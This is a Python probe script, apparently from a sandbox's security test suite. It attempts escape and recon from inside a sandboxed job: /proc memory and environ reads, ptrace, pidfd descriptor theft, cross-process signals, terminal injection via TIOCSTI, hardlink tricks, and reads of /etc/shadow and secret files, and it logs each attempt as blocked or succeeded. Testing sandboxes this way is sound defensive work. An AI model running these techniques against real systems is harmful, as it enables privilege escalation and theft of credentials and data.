# ruff: noqa: F821, E741 — exec()d with `log` and `ws` given
"""The seventh probe's broad attack, exec()d with `log` (a writable file) and `ws` (the workspace) by
pkg_init.py (a kernel child) or cmd_wrapper.py (a command). One line per check:
`CHECK name: BLOCKED|SUCCEEDED|INFO detail`. Targets: the server (ws/SERVER_PID), this process's
supervisor (its parent), a same-user victim outside the sandbox (ws/VICTIM_PID)."""

import ctypes
import errno
import fcntl
import os
import signal
import socket
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
BASE = os.path.dirname(ws)
OUTSIDE = os.path.join(BASE, "outside")
HOME = os.path.join(BASE, "home")


def say(name, ok, detail=""):
    verdict = ok if isinstance(ok, str) else ("SUCCEEDED" if ok else "BLOCKED")
    print(f"CHECK {name}: {verdict} {str(detail)[:300]}", file=log, flush=True)


def err(e):
    return f"{type(e).__name__}: {e}"


def ids(path):
    try:
        return [int(x) for x in open(path).read().split()]
    except Exception:
        return []


server = ids(os.path.join(ws, "SERVER_PID"))
victim = ids(os.path.join(ws, "VICTIM_PID"))
ppid = os.getppid()
say(
    "who",
    "INFO",
    f"uid={os.getuid()} pid={os.getpid()} ppid={ppid} server={server} victim={victim} cwd={os.getcwd()}",
)
try:
    st = open("/proc/self/status").read()
    say(
        "self-status",
        "INFO",
        " | ".join(
            l for l in st.splitlines() if l.startswith(("CapEff", "CapBnd", "NoNewPrivs", "Seccomp", "NSpid"))
        ),
    )
except Exception as e:
    say("self-status", "INFO", err(e))
targets = {
    "server": server[0] if server else None,
    "supervisor": ppid,
    "victim": victim[0] if victim else None,
}

# 1. /proc/<pid>/{environ,maps,mem,cwd,root,fd,cmdline,status} of processes outside the sandbox
for tname, pid in targets.items():
    if not pid:
        continue
    for what in (
        "environ",
        "maps",
        "cmdline",
        "status",
        "auxv",
        "stack",
        "io",
        "syscall",
        "mountinfo",
        "personality",
        "timerslack_ns",
    ):
        try:
            data = open(f"/proc/{pid}/{what}", "rb").read(200)
            say(
                f"proc-{what}-{tname}",
                "INFO (readable, documented)" if what in ("cmdline", "status", "mountinfo") else True,
                data[:80],
            )
        except Exception as e:
            say(f"proc-{what}-{tname}", False, err(e))
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        say(f"proc-mem-open-{tname}", True, "opened O_RDWR")
        os.close(fd)
    except Exception as e:
        say(f"proc-mem-open-{tname}", False, err(e))
    for what in ("cwd", "root", "fd", "map_files", "ns", "task"):
        try:
            ents = os.listdir(f"/proc/{pid}/{what}")
            say(
                f"proc-list-{what}-{tname}",
                True if what in ("cwd", "root", "map_files") else "INFO (listable, documented)",
                ents[:8],
            )
        except Exception as e:
            say(f"proc-list-{what}-{tname}", False, err(e))
    for n in range(0, 12):  # reopen the target's descriptors through the magic links
        try:
            fd = os.open(f"/proc/{pid}/fd/{n}", os.O_RDONLY | os.O_NONBLOCK)
            say(f"proc-fd-reopen-{tname}-{n}", True, os.readlink(f"/proc/self/fd/{fd}"))
            os.close(fd)
        except FileNotFoundError:
            pass
        except Exception as e:
            if n < 3:
                say(f"proc-fd-reopen-{tname}-{n}", False, err(e))
    for what, val in (
        ("oom_score_adj", b"1000"),
        ("comm", b"pwned"),
        ("clear_refs", b"1"),
        ("coredump_filter", b"0x7f"),
        ("attr/current", b"x"),
        ("loginuid", b"5"),
    ):
        try:
            with open(f"/proc/{pid}/{what}", "wb", buffering=0) as f:
                f.write(val)
            say(f"proc-write-{what}-{tname}", True, "written")
        except Exception as e:
            say(f"proc-write-{what}-{tname}", False, err(e))

# 2. ptrace, process_vm_readv/writev, pidfd_getfd, kcmp, perf_event_open on the server / supervisor / victim
PTRACE_SEIZE, PTRACE_ATTACH = 0x4206, 16
NR = {
    "pidfd_open": 434,
    "pidfd_getfd": 438,
    "pidfd_send_signal": 424,
    "process_vm_readv": 310,
    "process_vm_writev": 311,
    "kcmp": 312,
    "perf_event_open": 298,
    "process_madvise": 440,
    "tgkill": 234,
}
for tname, pid in targets.items():
    if not pid:
        continue
    for req in (PTRACE_SEIZE, PTRACE_ATTACH):
        r = libc.ptrace(ctypes.c_long(req), ctypes.c_long(pid), None, None)
        e = ctypes.get_errno()
        say(f"ptrace-{req:#x}-{tname}", r == 0, f"rc={r} {errno.errorcode.get(e, e)}")
        if r == 0:
            libc.ptrace(ctypes.c_long(17), ctypes.c_long(pid), None, None)  # PTRACE_DETACH
    buf = ctypes.create_string_buffer(64)

    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
    try:
        addr = int(open(f"/proc/{os.getpid()}/maps").readline().split("-")[0], 16)
    except Exception:
        addr = 0x400000
    remote = iovec(ctypes.c_void_p(addr), 64)
    r = libc.syscall(NR["process_vm_readv"], pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    e = ctypes.get_errno()
    say(f"process_vm_readv-{tname}", r > 0, f"rc={r} {errno.errorcode.get(e, e)}")
    pfd = libc.syscall(NR["pidfd_open"], pid, 0)
    e = ctypes.get_errno()
    say(f"pidfd_open-{tname}", "INFO", f"rc={pfd} {errno.errorcode.get(e, e) if pfd < 0 else ''}")
    if pfd >= 0:
        for n in range(0, 8):
            r = libc.syscall(NR["pidfd_getfd"], pfd, n, 0)
            e = ctypes.get_errno()
            if r >= 0:
                say(f"pidfd_getfd-{tname}-{n}", True, os.readlink(f"/proc/self/fd/{r}"))
                os.close(r)
            elif n < 2:
                say(f"pidfd_getfd-{tname}-{n}", False, f"rc={r} {errno.errorcode.get(e, e)}")
        sig = signal.SIGUSR2 if tname == "victim" else signal.SIGCONT
        r = libc.syscall(NR["pidfd_send_signal"], pfd, int(sig), None, 0)
        e = ctypes.get_errno()
        say(f"pidfd_send_signal-{tname}", r == 0, f"sig={sig.name} rc={r} {errno.errorcode.get(e, e)}")
        os.close(pfd)
    r = libc.syscall(NR["kcmp"], os.getpid(), pid, 0, 0, 0)  # KCMP_FILE fd 0 vs 0
    e = ctypes.get_errno()
    say(f"kcmp-{tname}", r >= 0, f"rc={r} {errno.errorcode.get(e, e)}")
    attr = (ctypes.c_uint8 * 128)()
    struct.pack_into("IIQ", attr, 0, 1, 128, 0)  # PERF_TYPE_SOFTWARE, size, PERF_COUNT_SW_CPU_CLOCK
    r = libc.syscall(NR["perf_event_open"], ctypes.byref(attr), pid, -1, -1, 0)
    e = ctypes.get_errno()
    say(f"perf_event_open-{tname}", r >= 0, f"rc={r} {errno.errorcode.get(e, e)}")
    if r >= 0:
        os.close(r)

# 3. signals to processes outside: kill, tgkill, and the SIGIO route (F_SETOWN/F_SETSIG on a socket of ours)
for tname, pid in targets.items():
    if not pid:
        continue
    sig = signal.SIGUSR1 if tname == "victim" else signal.SIGCONT
    try:
        os.kill(pid, sig)
        say(f"kill-{tname}", True, sig.name)
    except Exception as e:
        say(f"kill-{tname}", False, err(e))
    r = libc.syscall(NR["tgkill"], pid, pid, int(sig))
    e = ctypes.get_errno()
    say(f"tgkill-{tname}", r == 0, f"rc={r} {errno.errorcode.get(e, e)}")
if targets["victim"]:
    pid = targets["victim"]
    F_SETOWN, F_SETSIG, F_SETOWN_EX = 8, 10, 15
    for how in ("F_SETOWN", "F_SETOWN_EX-pid", "F_SETOWN-pgrp"):
        try:
            a, b = socket.socketpair()
            if how == "F_SETOWN":
                fcntl.fcntl(a.fileno(), F_SETOWN, pid)
            elif how == "F_SETOWN-pgrp":
                fcntl.fcntl(a.fileno(), F_SETOWN, -os.getpgid(pid))
            else:
                fcntl.fcntl(a.fileno(), F_SETOWN_EX, struct.pack("ii", 1, pid))  # F_OWNER_PID
            fcntl.fcntl(a.fileno(), F_SETSIG, int(signal.SIGWINCH))
            fl = fcntl.fcntl(a.fileno(), fcntl.F_GETFL)
            fcntl.fcntl(a.fileno(), fcntl.F_SETFL, fl | os.O_ASYNC)
            b.send(b"x")  # a is readable: the kernel sends SIGWINCH to the owner
            time.sleep(0.3)
            say(f"sigio-{how}-victim", "INFO", "sent SIGWINCH via SIGIO (see the victim's log)")
            a.close()
            b.close()
        except Exception as e:
            say(f"sigio-{how}-victim", False, err(e))

# 4. unix sockets: every abstract one listed in /proc/net/unix, the victim's in particular
try:
    names = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith("@"):
            names.add(parts[7])
    say("abstract-listed", "INFO", f"{len(names)}: {sorted(names)[:10]}")
    if victim:
        names.add(f"@kprobe7-victim-{victim[0]}")
    for n in sorted(names)[:40]:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect("\0" + n[1:])
            data = b""
            try:
                data = s.recv(40)
            except Exception:
                pass
            say(f"abstract-connect {n[:60]}", True, data)
        except Exception as e:
            say(f"abstract-connect {n[:60]}", False, err(e))
        s.close()
except Exception as e:
    say("abstract", "INFO", err(e))

# 5. inherited descriptors
for n in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    try:
        say(f"fd-{n}", "INFO", os.readlink(f"/proc/self/fd/{n}"))
    except Exception as e:
        say(f"fd-{n}", "INFO", err(e))

# 6. files: the home secret, the outside victim, an O_PATH fd reopened through /proc/self/fd
for path in (
    os.path.join(HOME, "secret.txt"),
    os.path.join(OUTSIDE, "victim.txt"),
    "/etc/shadow",
    "/root/.bash_history",
):
    try:
        say(f"read {path}", True, open(path, "rb").read(40))
    except Exception as e:
        say(f"read {path}", False, err(e))
try:
    fd = os.open(os.path.join(OUTSIDE, "victim.txt"), os.O_PATH)
    say("opath-outside", "INFO", "O_PATH open answered")
    for mode in (os.O_RDONLY, os.O_WRONLY):
        try:
            f2 = os.open(f"/proc/self/fd/{fd}", mode)
            say(f"opath-reopen-{mode}", True, os.read(f2, 30) if mode == os.O_RDONLY else "opened for write")
            os.close(f2)
        except Exception as e:
            say(f"opath-reopen-{mode}", False, err(e))
except Exception as e:
    say("opath-outside", "INFO", err(e))

# 7. hard links and renames that would give a read-only file a write path
writable = os.path.dirname(os.path.abspath(log.name))  # the log's directory: writable for both kinds of job
for src in (os.path.join(ws, "victim_ws.txt"), "/opt/kprobe7-victim.txt", os.path.join(HOME, "secret.txt")):
    dst = os.path.join(writable, "kprobe7-hardlink")
    try:
        os.link(src, dst)
        try:
            with open(dst, "a") as f:
                f.write("APPENDED-BY-JOB\n")
            say(f"hardlink-write {src}", True, "appended through the link")
        except Exception as e:
            say(f"hardlink-write {src}", False, "linked, write " + err(e))
        os.unlink(dst)
    except Exception as e:
        say(f"hardlink {src}", False, err(e))
RENAME_EXCHANGE = 2
open(os.path.join(writable, "kprobe7-x"), "w").write("x")
r = libc.renameat2(
    -100,
    os.path.join(writable, "kprobe7-x").encode(),
    -100,
    os.path.join(ws, "victim_ws.txt").encode(),
    RENAME_EXCHANGE,
)
e = ctypes.get_errno()
say("renameat2-exchange-ws-file", r == 0, f"rc={r} {errno.errorcode.get(e, e)}")

# 8. namespaces and mounts: a user namespace of its own, then mount over a read-only path
pid = os.fork()
if pid == 0:
    try:
        r = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
        e = ctypes.get_errno()
        msg = f"unshare rc={r} {errno.errorcode.get(e, e)}"
        if r == 0:
            r = libc.mount(b"none", ws.encode(), b"tmpfs", 0, None)
            e = ctypes.get_errno()
            msg += f"; mount tmpfs on ws rc={r} {errno.errorcode.get(e, e)}"
        say("userns-mount", r == 0, msg)
    finally:
        log.flush()
        os._exit(0)
os.waitpid(pid, 0)

# 9. the terminal: /dev/tty and TIOCSTI
try:
    fd = os.open("/dev/tty", os.O_RDWR)
    try:
        fcntl.ioctl(fd, 0x5412, b"x")  # TIOCSTI
        say("tiocsti", True, "a character pushed into the terminal")
    except Exception as e:
        say("tiocsti", False, err(e))
except Exception as e:
    say("dev-tty", False, err(e))

# 10. where the job's private files are, and what else is in that directory
tmp = os.environ.get("TMPDIR", "")
say(
    "env",
    "INFO",
    {
        k: v
        for k, v in os.environ.items()
        if k in ("TMPDIR", "TRITON_CACHE_DIR", "XDG_CACHE_HOME", "HOME", "PYTHONPATH")
    },
)
for d in (tmp, os.path.dirname(tmp), os.path.dirname(os.path.dirname(tmp))):
    try:
        say(f"list {d}", "INFO", sorted(os.listdir(d))[:20])
    except Exception as e:
        say(f"list {d}", "INFO", err(e))
print("recon done", file=log, flush=True)
